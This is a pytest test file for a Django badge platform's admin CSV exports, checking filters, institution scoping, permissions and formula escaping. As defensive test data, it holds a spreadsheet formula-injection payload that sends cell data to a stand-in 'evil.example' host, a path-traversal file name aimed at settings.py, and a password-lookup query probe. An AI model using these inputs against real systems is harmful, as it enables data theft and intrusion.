"""CSV exports of awards and enrolments (badges/exports.py): filtered as the admin list is, scoped to the user's
institutions, formula-escaped. Over HTTP, as a badge officer downloads them."""

import csv
import io

import pytest
from django.urls import reverse

from badges.models import Award, AwardStatus
from issuers.models import IssuerMembership, Role
from tests.badges.test_dashboard import award_many, make_ten_awards, staff_of
from tests.factories import CourseFactory, IssuerFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _no_queue(monkeypatch):
    monkeypatch.setattr("badges.services._queue_issue", lambda ids: None)
    monkeypatch.setattr("badges.issuing.queue_notify", lambda ids: None)


@pytest.fixture
def ten_awards():
    return make_ten_awards()


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_export_reads_10_issued_4_claimed_2_public(client, ten_awards):
    """The issue's own example, read in the export: 10 rows, 4 claimed, 2 public."""
    course, awards = ten_awards
    client.force_login(staff_of(course.issuer))
    rows = rows_of(client.get(reverse("admin:badges_award_export")))
    assert len(rows) == 10
    assert sum(r["claimed"] == "yes" for r in rows) == 4
    assert sum(r["public"] == "yes" for r in rows) == 2
    assert {r["status"] for r in rows} == {"issued"}
    first = next(r for r in rows if r["award id"] == awards[0].public_id)
    assert first["public URL"].endswith(f"/assertions/{awards[0].public_id}")
    assert first["learner e-mail"] == awards[0].learner.email
    assert first["name"] == "Learner 0"
    assert first["course"] == course.title and first["badge class"] == course.badge_class.name
    for column in ("issued", "expires", "e-mailed", "verifications"):
        assert column in first


def test_export_keeps_the_lists_filters_and_search(client, ten_awards):
    """The export link carries the list's query string: the file holds what the list shows."""
    course, awards = ten_awards
    Award.objects.filter(id=awards[5].id).update(status=AwardStatus.FAILED)
    client.force_login(staff_of(course.issuer))
    url = reverse("admin:badges_award_export")
    assert [r["award id"] for r in rows_of(client.get(url, {"status__exact": "failed"}))] == [awards[5].public_id]
    assert [r["learner e-mail"] for r in rows_of(client.get(url, {"q": "learner7@"}))] == ["learner7@example.net"]
    # The list page offers the link with its current filters.
    page = client.get(reverse("admin:badges_award_changelist"), {"status__exact": "failed"}).content.decode()
    assert f"{url}?status__exact=failed" in page


def test_export_escapes_formulas_in_names(client):
    """A learner named =HYPERLINK(...) is text in the spreadsheet, not a formula."""
    course = CourseFactory()
    award_many(course, 1, names=['=HYPERLINK("https://evil.example/?"&A1,"click")'])
    client.force_login(staff_of(course.issuer))
    (row,) = rows_of(client.get(reverse("admin:badges_award_export")))
    assert row["name"].startswith("'=HYPERLINK(")
    (row,) = rows_of(client.get(reverse("admin:courses_enrolment_export")))
    assert row["name"].startswith("'=HYPERLINK(")


def test_export_of_another_institution_is_refused(client, ten_awards):
    """B's staff export only B's awards, whatever the query string asks."""
    course, _awards = ten_awards
    other = IssuerFactory()
    award_many(CourseFactory(issuer=other), 2, prefix="b")
    client.force_login(staff_of(other))
    url = reverse("admin:badges_award_export")
    rows = rows_of(client.get(url))
    assert len(rows) == 2 and all(r["learner e-mail"].startswith("b") for r in rows)
    assert rows_of(client.get(url, {"q": "learner0@"})) == []
    # A lookup the list does not offer is refused as the list refuses it, never a 500.
    assert client.get(url, {"learner__user__password__startswith": "p"}).status_code in (302, 400)
    assert client.get(url, {"issuer__id__exact": course.issuer_id}).status_code in (302, 400)


def test_export_refuses_anonymous_and_non_staff(client, ten_awards):
    url = reverse("admin:badges_award_export")
    assert client.get(url).status_code == 302
    client.force_login(UserFactory(is_staff=False))
    assert client.get(url).status_code == 302


def test_enrolment_export_follows_the_list(client, ten_awards):
    """Enrolments, with their award's state, filtered as the list is."""
    course, _awards = ten_awards
    user = UserFactory()
    IssuerMembership.objects.create(issuer=course.issuer, user=user, role=Role.VIEWER)
    client.force_login(user)
    url = reverse("admin:courses_enrolment_export")
    rows = rows_of(client.get(url))
    assert len(rows) == 10
    assert sum(r["claimed"] == "yes" for r in rows) == 4 and sum(r["public"] == "yes" for r in rows) == 2
    assert {r["status"] for r in rows} == {"completed"}
    assert rows_of(client.get(url, {"status__exact": "enrolled"})) == []
    page = client.get(reverse("admin:courses_enrolment_changelist"), {"status__exact": "completed"}).content.decode()
    assert f"{url}?status__exact=completed" in page


def test_award_downloads_of_another_institution_are_refused(client, ten_awards):
    """Staff download an award's files from its admin page; another institution's staff get 404 for the same URL,
    and a file name that is not a download is 404 too."""
    course, awards = ten_awards
    url = reverse("admin:badges_award_download", args=[awards[3].pk, "credential.json"])
    client.force_login(staff_of(IssuerFactory()))
    assert client.get(url).status_code == 404
    client.force_login(staff_of(course.issuer))
    response = client.get(url)
    assert response.status_code == 200 and b"OpenBadgeCredential" in response.content
    bad = reverse("admin:badges_award_download", args=[awards[3].pk, "..%2Fsettings.py"])
    assert client.get(bad).status_code == 404


def test_emailed_column_leaves_out_refused_messages(client, ten_awards):
    """An e-mail the server refused is not reported as e-mailed (its reason is in its own column)."""
    from django.utils import timezone

    course, awards = ten_awards
    now = timezone.now()
    Award.objects.filter(id=awards[0].id).update(notified_at=now)
    Award.objects.filter(id=awards[1].id).update(notified_at=now, email_failed_at=now, email_failure="550 unknown")
    client.force_login(staff_of(course.issuer))
    rows = {r["award id"]: r for r in rows_of(client.get(reverse("admin:badges_award_export")))}
    assert rows[awards[0].public_id]["e-mailed"] and not rows[awards[1].public_id]["e-mailed"]
    assert rows[awards[1].public_id]["e-mail failure"] == "550 unknown"
